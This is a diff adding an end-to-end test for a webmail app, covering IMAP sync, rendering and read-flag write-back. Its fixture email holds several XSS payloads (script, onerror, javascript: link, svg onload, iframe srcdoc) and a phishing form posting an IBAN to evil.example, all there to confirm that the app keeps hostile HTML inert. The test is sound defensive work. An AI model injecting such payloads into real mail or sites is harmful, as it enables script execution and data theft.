@@ -1,0 +1,174 @@
+import { ImapFlow } from 'imapflow';
+import { dovecotUnavailable, startDovecot, type Dovecot } from '../test/helpers/dovecot.ts';
+import { baseUrlOf, expect, registerUser, test } from './fixtures.ts';
+
+/**
+ * The whole way of a message from a real IMAP server to the screen and back (issue 15): a Dovecot mailbox with a
+ * client's order and a message full of script payloads; a new user connects the account, the sync stores both,
+ * the mailbox shows them; opening the hostile one runs no script (a script would set window.__pwned or open a
+ * dialog); opening marks it read here and, written back, on the server.
+ */
+const PASSWORD = 'Imap-Journey-2026';
+const ORDER = 'Ordine 42 confermato';
+const HOSTILE = 'Fattura allegata da verificare';
+const LOGO = 'Il nostro nuovo logo';
+/** A 2 × 2 red PNG. */
+const PNG =
+  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR4nGP4z8AARAwQCgAf7gP9i18U1AAAAABJRU5ErkJggg==';
+/** An HTML message with its logo as an inline (cid:) image part. */
+const withLogo = () =>
+  [
+    'From: Paolo Verdi <paolo@verdi-impianti.example>',
+    'To: Carla <carla@example.test>',
+    `Subject: ${LOGO}`,
+    'Message-ID: <logo.1@verdi-impianti.example>',
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    'Content-Type: multipart/related; boundary="rel"',
+    '',
+    '--rel',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    '<p>Ecco il logo:</p><img src="cid:logo@verdi" alt="Logo Verdi">',
+    '--rel',
+    'Content-Type: image/png',
+    'Content-Transfer-Encoding: base64',
+    'Content-ID: <logo@verdi>',
+    'Content-Disposition: inline; filename="logo.png"',
+    '',
+    PNG,
+    '--rel--',
+    '',
+  ].join('\r\n');
+const skip = dovecotUnavailable();
+
+const message = (subject: string, html: string) =>
+  [
+    'From: Paolo Verdi <paolo@verdi-impianti.example>',
+    'To: Carla <carla@example.test>',
+    `Subject: ${subject}`,
+    `Message-ID: <${subject.replace(/\W+/g, '.')}@verdi-impianti.example>`,
+    `Date: ${new Date().toUTCString()}`,
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=utf-8',
+    '',
+    html,
+    '',
+  ].join('\r\n');
+
+let dovecot: Dovecot;
+const imap = () =>
+  new ImapFlow({
+    host: dovecot.host,
+    port: dovecot.port,
+    secure: false,
+    doSTARTTLS: false,
+    auth: { user: 'carla', pass: PASSWORD },
+    logger: false,
+  });
+
+test.beforeAll(async () => {
+  if (skip) return;
+  dovecot = await startDovecot({ carla: PASSWORD });
+  const client = imap();
+  await client.connect();
+  await client.append('INBOX', message(ORDER, '<p>Buongiorno, confermiamo l&#39;ordine 42.</p>'));
+  await client.append(
+    'INBOX',
+    message(
+      HOSTILE,
+      '<p>Gentile cliente, in allegato la fattura.</p><script>window.top.__pwned = 1; alert(1)</script>' +
+        '<img src="x" onerror="window.top.__pwned = 1"><a href="javascript:window.top.__pwned=1">apri</a>' +
+        '<svg onload="window.top.__pwned = 1"></svg><form action="https://evil.example"><input name="iban"></form>' +
+        '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><div style="position:fixed;inset:0">x</div>',
+    ),
+  );
+  await client.append('INBOX', withLogo());
+  await client.logout();
+});
+test.afterAll(async () => {
+  await dovecot?.close();
+});
+
+test('an IMAP account: synced, shown, hostile HTML inert, read written back to the server', async ({
+  page,
+}) => {
+  test.skip(!!skip, skip ?? '');
+  test.setTimeout(120_000);
+  const dialogs: string[] = [];
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  await registerUser(page, { name: 'Carla Neri' });
+  const headers = { Origin: baseUrlOf(page) };
+  const org = await page.request.post('/api/v1/organizations', {
+    data: { name: `Impianti Neri ${Date.now().toString(36)}` },
+    headers,
+  });
+  expect(org.status(), await org.text()).toBe(201);
+  const server = { host: dovecot.host, port: dovecot.port, security: 'none', username: 'carla' };
+  const account = await page.request.post('/api/v1/mail/accounts', {
+    data: {
+      emailAddress: 'carla@example.test',
+      displayName: 'Carla Neri',
+      imap: server,
+      smtp: { ...server, port: 2525 },
+      password: PASSWORD,
+    },
+    headers,
+  });
+  expect(account.status(), await account.text()).toBe(201);
+  const { id } = (await account.json()) as { id: string };
+  const sync = await page.request.post(`/api/v1/mail/accounts/${id}/sync`, { headers });
+  expect(sync.status(), await sync.text()).toBe(202);
+
+  await page.goto('/email');
+  const list = page.getByTestId('mail-list');
+  await expect(list.getByRole('button', { name: new RegExp(ORDER) })).toBeVisible({ timeout: 30_000 });
+  await list.getByRole('button', { name: new RegExp(HOSTILE) }).click();
+  const view = page.getByRole('article');
+  await expect(view.getByRole('heading', { level: 2, name: HOSTILE })).toBeVisible();
+  const frame = page.frameLocator('[data-testid="mail-frame"]');
+  await expect(frame.getByText('Gentile cliente, in allegato la fattura.')).toBeVisible();
+  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
+  expect(dialogs).toEqual([]);
+
+  // An inline (cid:) image shows inside the frame, which has no cookies of its own.
+  await list.getByRole('button', { name: new RegExp(LOGO) }).click();
+  await expect(view.getByRole('heading', { level: 2, name: LOGO })).toBeVisible();
+  await expect(page.frameLocator('[data-testid="mail-frame"]').getByText('Ecco il logo:')).toBeVisible();
+  const logoWidth = () => {
+    const inner = page
+      .frames()
+      .find((f) => f.parentFrame() === page.mainFrame() && f.url().startsWith('about:'));
+    return inner?.evaluate(
+      () => document.querySelector<HTMLImageElement>('img[alt="Logo Verdi"]')?.naturalWidth,
+    );
+  };
+  await expect.poll(logoWidth).toBe(2);
+  await list.getByRole('button', { name: new RegExp(HOSTILE) }).click();
+  await expect(view.getByRole('heading', { level: 2, name: HOSTILE })).toBeVisible();
+
+  // Opened here → read on the server too (the write-back queue replays it on the next sync).
+  await expect(view.getByRole('button', { name: 'Segna come non letto' })).toBeVisible();
+  await page.request.post(`/api/v1/mail/accounts/${id}/sync`, { headers });
+  await expect
+    .poll(
+      async () => {
+        const client = imap();
+        await client.connect();
+        try {
+          await client.mailboxOpen('INBOX');
+          for await (const m of client.fetch('1:*', { envelope: true, flags: true })) {
+            if (m.envelope?.subject === HOSTILE) return [...(m.flags ?? [])];
+          }
+          return [];
+        } finally {
+          await client.logout();
+        }
+      },
+      { timeout: 30_000 },
+    )
+    .toContain('\\Seen');
+});
